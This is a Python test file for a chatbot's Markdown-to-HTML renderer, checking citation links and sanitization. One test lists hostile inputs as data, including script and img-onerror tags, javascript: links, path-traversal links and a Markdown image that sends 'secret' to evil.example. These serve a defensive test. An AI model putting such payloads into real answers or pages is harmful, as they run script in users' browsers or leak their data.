"""An answer's Markdown becomes safe HTML with links to its citations."""

import re

import pytest

from chatbot.rendering import render_answer
from chatbot.turn import Cited

PAGE = "/policies/returns/2/?from=10&to=40#cited"
SOURCES = (
    Cited(1, "Returns", 2, "Returns > Time", "30 days", PAGE),
    Cited(2, "Shipping", 1, "", "5 days", "/policies/shipping/1/"),
)


def test_a_citation_opens_the_words_it_points_to():
    html = render_answer("Within **30 days** [1].", SOURCES)
    assert html.strip() == (
        '<p>Within <strong>30 days</strong> <a class="cite" href="/policies/returns/2/?from=10&amp;to=40#cited"'
        ' target="_blank" rel="noopener">1</a>.</p>'
    )


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("Yes [9].", "Yes."),
        ("Yes [9]", "Yes"),
        ("Yes [9] and no.", "Yes and no."),
        ("Yes [1, 9].", "Yes 1."),
        ("Yes [1][2] [1, 2].", "Yes 12 12."),
        ("Your [ring] of [2 pieces]", "Your [ring] of [2 pieces]"),
    ],
)
def test_only_citations_that_exist_are_shown(text, seen):
    assert re.sub(r"<[^>]+>", "", render_answer(text, SOURCES)).strip() == seen


def test_lists_emphasis_and_line_breaks():
    html = render_answer("You bought:\n\n- a *blue* shirt\n- a hat\n\nTotal\n10 USD\n\n1. Pack\n2. Send", ())
    assert "<li>a <em>blue</em> shirt</li>" in html and "<ol>" in html and "Total<br>\n10 USD" in html


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "![pixel](https://evil.example/?q=secret)",
        "![pixel][7]\n\n[7]: https://evil.example/",
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "[x](//evil.example/policies/)",
        "[x](/console/logout/)",
        "[x](/policies/../console/)",
        "[x](/policies/\\evil.example)",
        "[x](mailto:a@b.example)",
        "# heading\n\n```\ncode\n```\n\n| a |\n|---|",
    ],
)
def test_nothing_but_the_small_language_of_answers_becomes_markup(text):
    html = render_answer(text, SOURCES)
    assert set(re.findall(r"<(\w+)", html)) <= {"p", "br"}


def test_links_lead_to_the_web_or_to_our_policies():
    html = render_answer("[track](https://carrier.example/t?a=1&b=2) [rules](/policies/returns/2/?from=1#cited)", ())
    assert 'href="https://carrier.example/t?a=1&amp;b=2" target="_blank" rel="nofollow noopener noreferrer"' in html
    assert 'href="/policies/returns/2/?from=1#cited" target="_blank" rel="noopener"' in html


def test_a_citation_with_a_bad_address_leads_nowhere():
    assert "javascript" not in render_answer("x [1]", [Cited(1, "d", 1, "", "", "javascript:alert(1)")])


def test_no_text_gives_no_html():
    assert render_answer("", SOURCES) == ""
